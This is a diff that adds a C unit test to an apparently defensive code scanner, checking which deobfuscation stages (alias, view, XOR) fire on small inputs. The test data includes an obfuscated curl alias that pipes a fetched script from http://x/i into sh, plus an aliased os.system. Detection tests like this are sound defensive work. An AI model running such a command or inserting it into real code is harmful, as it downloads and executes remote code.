@@ -900,6 +900,37 @@ START_TEST(alias_view)
 }
 END_TEST
 
+/* What the second stage did with the last file (scan_worker_stage, the
+ * figures of make bench's stage_share): each file on its own. */
+START_TEST(second_stage_reached)
+{
+	struct finding_list fl;
+
+	scan_str("a.py", "x = 1\nprint(x)\n", &fl);
+	ck_assert_uint_eq(scan_worker_stage(sc.w), 0);
+	finding_list_free(&fl);
+	scan_str("a.sh", "echo c''url\n", &fl);
+	ck_assert_uint_eq(scan_worker_stage(sc.w), SCAN_STAGE_VIEW);
+	finding_list_free(&fl);
+	scan_str("a.sh", "c=curl\n$c -s http://x/i | sh\n", &fl);
+	ck_assert_uint_eq(scan_worker_stage(sc.w),
+	    SCAN_STAGE_VIEW | SCAN_STAGE_ALIAS);
+	finding_list_free(&fl);
+	/* an alias no line uses (its binding is no use): defined, but no
+	 * view line */
+	scan_str("a.py", "s = os.system\n", &fl);
+	ck_assert_uint_eq(scan_worker_stage(sc.w), SCAN_STAGE_ALIAS);
+	finding_list_free(&fl);
+	scan_str("a.py", "k = 5\ny = x ^ k\n", &fl);
+	ck_assert_uint_eq(scan_worker_stage(sc.w), SCAN_STAGE_XOR);
+	finding_list_free(&fl);
+	/* and the next file starts from none */
+	scan_str("a.py", "x = 1\n", &fl);
+	ck_assert_uint_eq(scan_worker_stage(sc.w), 0);
+	finding_list_free(&fl);
+}
+END_TEST
+
 /* A literal XORed with the file's literal key: the payload is read as a
  * view of the literal's line; a file without XOR is not read so. */
 START_TEST(xor_view)
@@ -1428,6 +1459,7 @@ engine_suite(void)
 	tcase_add_test(tc, binary_strings);
 	tcase_add_test(tc, normalised_view);
 	tcase_add_test(tc, alias_view);
+	tcase_add_test(tc, second_stage_reached);
 	tcase_add_test(tc, xor_view);
 	tcase_add_test(tc, atoms_held_to_the_end);
 	tcase_add_test(tc, base64_of_utf16);
